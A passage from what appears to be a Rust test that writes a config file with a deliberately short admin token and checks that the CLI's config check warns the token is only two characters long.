    std::fs::write(&file, "admin:\n  token: a1\n").unwrap();
    let (_, out) = cli.ok_with_stderr(&["-c", file.to_str().unwrap(), "config", "check"]);
    assert!(out.contains("admin.token is 2 characters long"), "{out}");
}
